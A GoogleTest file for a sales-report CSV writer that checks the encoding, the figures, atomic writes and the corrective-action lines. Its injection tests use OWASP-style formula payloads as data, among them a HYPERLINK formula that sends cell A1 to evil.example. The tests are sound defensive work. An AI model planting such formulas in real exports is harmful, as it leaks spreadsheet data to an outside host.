#include "salestarget/reporting/SummaryCsvWriter.h"

#include "salestarget/domain/DomainError.h"
#include "salestarget/reporting/SummaryColumns.h"

#include "reporting/SummaryReadBack.h"
#include "reporting/SummaryTestSupport.h"

#include <QTemporaryDir>

#include <gtest/gtest.h>

using namespace st;
using namespace st::test;

namespace {

std::vector<QStringList> records(const WeeklySummary &s)
{
    return parseCsv(QString::fromUtf8(SummaryCsvWriter::toBytes(s)));
}

/// The table rows of the first section, keyed by the Path column.
std::map<QString, QStringList> tableRows(const std::vector<QStringList> &recs)
{
    std::map<QString, QStringList> rows;
    bool inTable = false;
    for (const QStringList &r : recs) {
        if (r.value(0) == u"Node" && r.value(1) == u"Path") {
            inTable = true;
            continue;
        }
        if (inTable && r.value(1).isEmpty())
            break;
        if (inTable)
            rows[r.value(1)] = r;
    }
    return rows;
}

/// A summary with one node named `name`, built by hand (the writer takes any content).
WeeklySummary summaryNamed(const QString &name)
{
    WeeklySummary s = demoSummary({Dimension::Org});
    SummarySection &section = s.sections.front();
    section.rows.resize(2);
    section.rows[1].name = name;
    section.rows[1].path = name;
    section.rows[1].depth = 1;
    section.lagging.clear();
    return s;
}

} // namespace

TEST(SummaryCsvWriterTest, Utf8WithBomCrlfAndTheSameNumberOfFieldsOnEveryLine)
{
    const QByteArray bytes = SummaryCsvWriter::toBytes(demoSummary({Dimension::Org}));
    ASSERT_TRUE(bytes.startsWith("\xEF\xBB\xBF"));
    EXPECT_TRUE(bytes.endsWith("\r\n"));
    EXPECT_EQ(bytes.count("\r\n"), bytes.count('\n')); // no bare line feeds
    const auto recs = parseCsv(QString::fromUtf8(bytes));
    ASSERT_GT(recs.size(), 20u);
    for (const QStringList &r : recs)
        EXPECT_EQ(r.size(), recs.front().size()) << r.join(u'|').toStdString();
    EXPECT_TRUE(QString::fromUtf8(bytes).contains(QStringLiteral("销售部/华东一组/张伟")));
}

TEST(SummaryCsvWriterTest, HeaderBlockNamesPlanMetricWeekAsOfAndGeneratedAt)
{
    const auto recs = records(demoSummary({Dimension::Org}));
    EXPECT_EQ(recs[0][0], QStringLiteral("Weekly summary — 华信科技"));
    EXPECT_EQ(recs[1][0], QStringLiteral("Plan"));
    EXPECT_EQ(recs[2][1], QStringLiteral("Sales amount (CNY)"));
    EXPECT_EQ(recs[3][1], QStringLiteral("2026-W47 (2026-11-16 – 2026-11-22)"));
    EXPECT_EQ(recs[4][1], QStringLiteral("2026-11-22"));
    EXPECT_EQ(recs[5][1], QStringLiteral("2026-11-23 08:00"));
    EXPECT_EQ(recs[6][0], QStringLiteral("Note"));
}

struct NumbersCase {
    Dimension dimension;
    MetricId metric;
    int week;
};

class SummaryCsvNumbersTest : public ::testing::TestWithParam<NumbersCase>
{
};

TEST_P(SummaryCsvNumbersTest, NumbersAreTheReportsExactly)
{
    const NumbersCase c = GetParam();
    const WeeklySummary s = demoSummary({c.dimension}, c.metric, 2026, c.week);
    const int d = s.decimals();
    const auto rows = tableRows(records(s));
    PlanService &service = TestPlan::demo().service;
    const auto week = service.report(c.dimension, c.metric, s.week, s.asOf);
    const auto month = service.report(c.dimension, c.metric, s.month, s.asOf);
    const auto year = service.report(c.dimension, c.metric, s.year, s.asOf);
    ASSERT_EQ(rows.size(), s.sections.front().rows.size());
    for (const ReportRow &r : week->rows()) {
        ASSERT_TRUE(rows.count(r.path)) << r.path.toStdString();
        const QStringList &f = rows.at(r.path);
        EXPECT_EQ(f.value(2), r.figures.target.toDecimalString(d)) << r.path.toStdString();
        EXPECT_EQ(f.value(3), r.figures.actual.toDecimalString(d)) << r.path.toStdString();
        EXPECT_EQ(f.value(4), r.figures.achievement ? SummaryColumns::percent(*r.figures.achievement) : QString());
    }
    for (const ReportRow &r : month->rows()) {
        const QStringList &f = rows.at(r.path);
        EXPECT_EQ(f.value(7), r.figures.target.toDecimalString(d)) << r.path.toStdString();
        EXPECT_EQ(f.value(8), r.figures.actual.toDecimalString(d)) << r.path.toStdString();
        EXPECT_EQ(f.value(10), r.figures.gap.toDecimalString(d)) << r.path.toStdString();
        EXPECT_EQ(f.value(11), r.figures.pace ? SummaryColumns::percent(*r.figures.pace) : QString());
        EXPECT_TRUE(f.value(12).endsWith(statusLabel(r.figures.status))) << f.value(12).toStdString();
    }
    for (const ReportRow &r : year->rows()) {
        const QStringList &f = rows.at(r.path);
        EXPECT_EQ(f.value(17), r.figures.target.toDecimalString(d)) << r.path.toStdString();
        EXPECT_EQ(f.value(18), r.figures.actual.toDecimalString(d)) << r.path.toStdString();
        EXPECT_EQ(f.value(20), r.figures.gap.toDecimalString(d)) << r.path.toStdString();
    }
}

INSTANTIATE_TEST_SUITE_P(DemoPlan, SummaryCsvNumbersTest,
                         ::testing::Values(NumbersCase{Dimension::Org, kSalesMetric, 47},
                                           NumbersCase{Dimension::Region, kSalesMetric, 47},
                                           NumbersCase{Dimension::Product, kVisitsMetric, 47},
                                           NumbersCase{Dimension::Org, kSalesMetric, 1},
                                           NumbersCase{Dimension::Org, kSalesMetric, 50}));

TEST(SummaryCsvWriterTest, NegativeNumbersStayNumbers)
{
    const auto rows = tableRows(records(demoSummary({Dimension::Org})));
    // 张伟 is over his year target: a negative gap, written as a number, not escaped.
    ASSERT_TRUE(rows.count(QStringLiteral("销售部/华东一组/张伟")));
    EXPECT_TRUE(rows.at(QStringLiteral("销售部/华东一组/张伟")).value(20).startsWith(u'-'));
}

class SummaryCsvInjectionTest : public ::testing::TestWithParam<const char *>
{
};

TEST_P(SummaryCsvInjectionTest, NamesCannotBecomeFormulas)
{
    const QString name = QString::fromUtf8(GetParam());
    const auto recs = records(summaryNamed(name));
    bool found = false;
    for (const QStringList &r : recs) {
        if (r.value(1) == u'\'' + name) { // the Path column
            found = true;
            EXPECT_EQ(r.value(0), QStringLiteral("  '") + name); // indented, still neutralised
        }
    }
    EXPECT_TRUE(found) << GetParam();
}

INSTANTIATE_TEST_SUITE_P(Owasp, SummaryCsvInjectionTest,
                         ::testing::Values("=HYPERLINK(\"http://x\",\"y\")", "+1+2", "-3+4", "@SUM(A1)", "\tcmd",
                                           "\r=1"));

TEST(SummaryCsvWriterTest, OrdinaryNamesAreLeftAlone)
{
    const auto recs = records(summaryNamed(QStringLiteral("华东, \"一\"组")));
    bool found = false;
    for (const QStringList &r : recs)
        found = found || (r.value(0) == QStringLiteral("  华东, \"一\"组") && r.value(1) == QStringLiteral("华东, \"一\"组"));
    EXPECT_TRUE(found);
}

TEST(SummaryCsvWriterTest, LaggingListAndDefinitionsFollowTheTable)
{
    const WeeklySummary s = demoSummary({Dimension::Org});
    const auto recs = records(s);
    std::size_t lagging = 0;
    std::size_t definitions = 0;
    for (std::size_t i = 0; i < recs.size(); ++i) {
        if (recs[i][0] == u"Lagging nodes" && lagging == 0) // the section title, not the definition
            lagging = i;
        if (recs[i][0] == u"Definitions")
            definitions = i;
    }
    ASSERT_GT(lagging, 0u);
    ASSERT_GT(definitions, lagging);
    EXPECT_EQ(definitions - lagging, std::size_t(s.laggingCount()) + 3); // title, header, rows, blank
    const SummaryRow &first = s.sections.front().rows[std::size_t(s.sections.front().lagging.front().row)];
    EXPECT_EQ(recs[lagging + 2][1], first.path);
    EXPECT_EQ(recs[lagging + 2][4], first.month.gap.toDecimalString(2));
    EXPECT_EQ(recs[definitions + 1][0], s.metricInfo().name());
}

TEST(SummaryCsvWriterTest, EmptyPlanSaysNoNodeIsLagging)
{
    TestPlan plan;
    const WeeklySummary s = WeeklySummary::build(plan.service, {Dimension::Org}, kSalesMetric, 2026, 47, kDemoToday,
                                                 kGeneratedAt);
    const QString text = QString::fromUtf8(SummaryCsvWriter::toBytes(s));
    EXPECT_TRUE(text.contains(QStringLiteral("No node is lagging.")));
}

TEST(SummaryCsvWriterTest, WritesAtomically)
{
    QTemporaryDir dir;
    const QString path = dir.filePath(QStringLiteral("周报.csv"));
    {
        QFile old(path);
        ASSERT_TRUE(old.open(QIODevice::WriteOnly));
        old.write("old");
    }
    const WeeklySummary s = demoSummary({Dimension::Org});
    SummaryCsvWriter::write(s, path);
    QFile f(path);
    ASSERT_TRUE(f.open(QIODevice::ReadOnly));
    EXPECT_EQ(f.readAll(), SummaryCsvWriter::toBytes(s));
    EXPECT_EQ(QDir(dir.path()).entryList(QDir::Files | QDir::Hidden), QStringList{QStringLiteral("周报.csv")});

    const QString missing = dir.filePath(QStringLiteral("no/such/dir/x.csv"));
    try {
        SummaryCsvWriter::write(s, missing);
        ADD_FAILURE() << "no error";
    } catch (const DomainError &e) {
        EXPECT_TRUE(e.message().contains(QStringLiteral("x.csv"))) << e.message().toStdString();
    }
    EXPECT_FALSE(QFile::exists(missing));
}

// --- corrective actions in the lagging list -------------------------------------------------------

namespace {

/// The lagging list's header and lines (up to the blank line after them).
std::pair<QStringList, std::vector<QStringList>> laggingSection(const std::vector<QStringList> &recs)
{
    for (std::size_t i = 0; i + 1 < recs.size(); ++i) {
        if (recs[i][0] != u"Lagging nodes" || recs[i].value(1) != QString())
            continue;
        std::vector<QStringList> lines;
        for (std::size_t j = i + 2; j < recs.size() && !recs[j][0].isEmpty(); ++j)
            lines.push_back(recs[j]);
        return {recs[i + 1], lines};
    }
    return {};
}

std::vector<QStringList> linesOf(const std::vector<QStringList> &lines, const QString &path)
{
    std::vector<QStringList> out;
    std::copy_if(lines.begin(), lines.end(), std::back_inserter(out), [&](const QStringList &l) { return l[1] == path; });
    return out;
}

const SummaryRow &rowOf(const WeeklySummary &s, NodeId id)
{
    for (const SummaryRow &r : s.sections.front().rows) {
        if (r.id == id)
            return r;
    }
    throw std::runtime_error("no such row");
}

} // namespace

TEST(SummaryCsvWriterTest, LaggingListHasALinePerCorrectiveActionWithItsReason)
{
    ActionsPlan &p = ActionsPlan::get();
    const WeeklySummary s = p.summary();
    const QByteArray bytes = SummaryCsvWriter::toBytes(s);
    const auto recs = parseCsv(QString::fromUtf8(bytes));
    for (const QStringList &r : recs)
        ASSERT_EQ(r.size(), recs.front().size()) << r.join(u'|').toStdString();
    const auto [header, lines] = laggingSection(recs);
    EXPECT_EQ(header.mid(0, 15), (QStringList{QStringLiteral("Dimension"), QStringLiteral("Node"), QStringLiteral("Month target"),
                                              QStringLiteral("Month actual"), QStringLiteral("Month gap"),
                                              QStringLiteral("Pace (month to date)"), QStringLiteral("Required daily rate"),
                                              QStringLiteral("Status (month to date)"), QStringLiteral("Corrective action"),
                                              QStringLiteral("Action owner"), QStringLiteral("Action due"),
                                              QStringLiteral("Expected effect"), QStringLiteral("Action status"),
                                              QStringLiteral("Variance reason"), QStringLiteral("Variance reason note")}));

    // Two lines: the sales action (open) first, then the all-metrics one (done); the figures once.
    const SummaryRow &row = rowOf(s, p.withActions);
    const auto mine = linesOf(lines, row.path);
    ASSERT_EQ(mine.size(), 2u);
    EXPECT_EQ(mine[0][0], QStringLiteral("Organization"));
    EXPECT_EQ(mine[0][4], row.month.gap.toDecimalString(2));
    EXPECT_TRUE(mine[0][7].endsWith(QStringLiteral("Lagging")));
    EXPECT_EQ(mine[0].mid(8, 7), (QStringList{kSalesAction, QStringLiteral("张伟"), QStringLiteral("2026-11-30"),
                                              QStringLiteral("月底前追回 50 万元"), QStringLiteral("Open"),
                                              QStringLiteral("Internal"), QStringLiteral("新人占比高，跟进不足")}));
    EXPECT_EQ(mine[1][0], QStringLiteral("Organization"));
    EXPECT_EQ(mine[1].mid(2, 6), QStringList(6, QString())); // the figures are not repeated: they add up
    EXPECT_EQ(mine[1].mid(8, 7), (QStringList{kAllMetricsAction, QStringLiteral("李娜"), QStringLiteral("2026-11-20"),
                                              QStringLiteral("预计本月追回销售额 80 万元，下月起每周新增商机 5 个以上"),
                                              QStringLiteral("Done"), QStringLiteral("External"),
                                              QStringLiteral("主要竞争对手在华东区域降价 10%，部分客户推迟采购决策")}));
    // The visits action is for another metric.
    EXPECT_FALSE(QString::fromUtf8(bytes).contains(kVisitsAction));

    // A lagging node without actions says so, on its one line.
    const auto none = linesOf(lines, rowOf(s, p.without).path);
    ASSERT_EQ(none.size(), 1u);
    EXPECT_EQ(none[0][8], QStringLiteral("No corrective action yet"));
    EXPECT_EQ(none[0].mid(9, 6), QStringList(6, QString()));

    // One line per action, at least one per node, and nothing else.
    std::size_t expected = 0;
    for (const LaggingNode &n : s.sections.front().lagging)
        expected += std::max<std::size_t>(1, n.actions.size());
    EXPECT_EQ(lines.size(), expected);
}

class SummaryCsvActionInjectionTest : public ::testing::TestWithParam<const char *>
{
};

TEST_P(SummaryCsvActionInjectionTest, ActionTextsCannotBecomeFormulas)
{
    const QString text = QString::fromUtf8(GetParam());
    WeeklySummary s = demoSummary({Dimension::Org});
    ASSERT_FALSE(s.sections.front().lagging.empty());
    CorrectiveAction a;
    a.description = text;
    a.owner = text;
    a.expectedEffect = text;
    a.reasonNote = text;
    s.sections.front().lagging.front().actions = {a};
    const auto [header, lines] = laggingSection(records(s));
    ASSERT_FALSE(lines.empty());
    for (int c : {8, 9, 11, 14})
        EXPECT_EQ(lines.front()[c], u'\'' + text) << c;
}

INSTANTIATE_TEST_SUITE_P(Owasp, SummaryCsvActionInjectionTest,
                         ::testing::Values("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")", "+1+2", "-3+4",
                                           "@SUM(A1)", "\tcmd", "\r=1", "=1\n=2"));
